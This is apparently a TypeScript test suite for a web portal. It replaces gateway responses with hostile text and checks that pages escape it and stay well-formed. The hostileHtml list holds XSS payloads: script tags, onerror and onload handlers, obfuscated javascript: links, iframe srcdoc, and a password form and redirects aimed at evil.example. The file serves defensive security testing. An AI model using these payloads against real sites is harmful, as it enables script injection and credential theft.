import { SaxesParser } from 'saxes'
import { ask } from '../ask.ts'
import { builtRoutes } from '../built-routes.ts'
import type { Control, ReceivedCall, TestUser } from '../control.ts'
import { textOf, wholeDocumentOf } from './document.ts'
import { addressOf } from './forms.ts'
import { ownAddresses } from './own-addresses.ts'
import { expect, test } from './test.ts'

const hostileHtml = [
  '<p>留下来的文字</p>',
  '<script>intruder()</script>',
  '<img src=x onerror=intruder()>',
  '<svg/onload=intruder()>',
  '<a href="javascript:intruder()">链接</a>',
  '<a href="java&#x09;script:intruder()">链接</a>',
  '<p onclick="intruder()" style="position:fixed;inset:0">挡住页面</p>',
  '<style>body{display:none}</style>',
  '<iframe srcdoc="<script>intruder()</script>"></iframe>',
  '<form action="https://evil.example"><input name="password"></form>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '</div></main></body><script>intruder()</script>',
].join('')
const hostileText = `"'></title></script><script>intruder()</script><img src=x onerror=intruder()>\ufffe\u{1ffff}`
/**
 * What stands on a page that could act without the portal's wish. The one sheet that each page carries is the portal's own: the
 * first, in its head.
 */
function actingIn(html: string): string[] {
  const document = wholeDocumentOf(html)
  const acts = (element: Element) =>
    [...element.attributes].some(
      ({ name, value }) =>
        name.startsWith('on') || /^\s*javascript:/i.test(value) || value.includes('evil.example'),
    ) ||
    ['base', 'iframe', 'style'].includes(element.localName) ||
    (element.localName === 'script' && /^\s*intruder/.test(element.textContent ?? '')) ||
    element.getAttribute('http-equiv') === 'refresh'
  const sheet = document.querySelector('head > style')
  const others = [...document.querySelectorAll('*')].filter((element) => element !== sheet)
  return others.filter(acts).map((element) => element.outerHTML.slice(0, 200))
}

/** What the caller is, which every page asks for; what says where pages and forms lead; and what is told of the visit. */
const notOfThePage = /^\/uaa\/api\/(tenant|token-check|current-user|ua\/sso)|\/log/

/** An answer with every text for people made hostile: markup in each, and whole documents of it where HTML belongs. */
function poisoned(value: unknown, name = ''): unknown {
  if (Array.isArray(value)) return value.map((one) => poisoned(one, name))
  if (typeof value === 'object' && value !== null)
    return Object.fromEntries(Object.entries(value).map(([key, one]) => [key, poisoned(one, key)]))
  if (typeof value !== 'string') return value
  if (/html$/i.test(name)) return hostileHtml + value
  return /\p{Script=Han}/u.test(value) ? value + hostileText : value
}

async function answerOf(port: number, call: ReceivedCall): Promise<unknown> {
  const { host, authorization, ...others } = call.headers
  const pairs = Object.entries(call.query).flatMap(([name, values]) =>
    [values].flat().map((value) => [name, value]),
  )
  const query = new URLSearchParams(pairs).toString()
  const answer = await ask({
    port,
    path: query === '' ? call.path : `${call.path}?${query}`,
    host,
    method: call.method,
    headers: { ...others, ...(authorization ? { authorization } : {}) },
    ...(call.body === null || call.body === undefined ? {} : { body: JSON.stringify(call.body) }),
  })
  const { returnCode, data } = JSON.parse(answer.body) as { returnCode: string; data: unknown }
  return returnCode === '0' ? data : null
}

/** Makes the gateway answer each call that a page made with hostile texts; answers how many. */
async function poison(control: Control): Promise<number> {
  const calls = (await control.calls()).filter(({ path }) => !notOfThePage.test(path))
  for (const call of calls) {
    const data = poisoned(await answerOf(control.port, call))
    if (data !== null)
      await control.arm({ path: call.path, fault: { kind: 'envelope', returnCode: '0', data } })
  }
  return calls.length
}

/**
 * A page that a mail leads to has no text of the gateway. A binding that waits for its code has no text of others but the name of an enterprise. The result of a tool cannot be poisoned: its
 * texts belong to its rules, and other ones break the contract, which is a failure and no page.
 */
const withoutTexts = [
  '/user/security/binding/:id',
  '/tool/:tool/result',
  '/notices/unsubscribe',
  // Words of the portal's own.
  ...[
    '/accessibility',
    '/auth/other-account',
    '/out',
    '/privacy',
    '/privacy/cookies',
    '/receipt',
    '/sitemap',
    '/tool',
  ],
  // These lead whoever is logged in on to other pages.
  ...['/apply/:id', '/auth/confirm', '/auth/login', '/auth/register', '/enterprise/back', '/user/relation'],
]

/** The first link to such a page leads on, or shows nothing of the gateway. */
const telling: Record<string, (user: TestUser) => string> = {
  '/user/relation/:enId': ({ enterprises }) => `/user/relation/${enterprises[0]?.enId}`,
  '/zct-ee/policy-match/report': () => '/zct-ee/policy-match/report?own=1',
}

test.describe('texts of the gateway are shown and never run', () => {
  for (const route of builtRoutes().filter(
    (one) => one.isPage && ![...withoutTexts, '/*'].includes(one.path),
  )) {
    test(route.path, async ({ portal, control, visitor }) => {
      const user = await control.makeUser({ enterprises: [{}] })
      await visitor.logIn(user)
      const headers = { cookie: visitor.cookie }
      const address =
        telling[route.path]?.(user) ??
        (await addressOf(portal, route, headers)) ??
        (await ownAddresses[route.path]?.({ visitor, control, user })) ??
        'no address'
      expect((await portal.ask(address, { headers })).status, address).toBe(200)
      await control.forgetCalls()
      await portal.ask(address, { headers })
      const poisonedCalls = await poison(control)
      const answer = await portal.ask(address, { headers })
      expect(poisonedCalls, address).toBeGreaterThan(0)
      expect(answer.status, address).toBe(200)
      expect(actingIn(answer.body), address).toEqual([])
    })
  }

  test('the text of a policy keeps its words', async ({ visitor, control }) => {
    const address = '/zct-ee/policy-info/n-rd-2023-7'
    await visitor.open(address)
    expect(await poison(control)).toBeGreaterThan(0)
    await visitor.reload()
    expect(visitor.main).toContain('留下来的文字')
    expect(textOf(visitor.one('h1'))).toContain('<script>intruder()</script>')
    expect(visitor.all('main a[href^="java"], main iframe, main [onclick], main style')).toEqual([])
  })

  for (const address of ['/news.atom', '/zct-ee/declaration.atom', '/sitemap.xml?part=pages']) {
    test(`${address} is well-formed`, async ({ portal, control }) => {
      await portal.ask(address)
      await poison(control)
      const answer = await portal.ask(address)
      expect(answer.status).toBe(200)
      expect(() => new SaxesParser().write(answer.body).close()).not.toThrow()
    })
  }
})
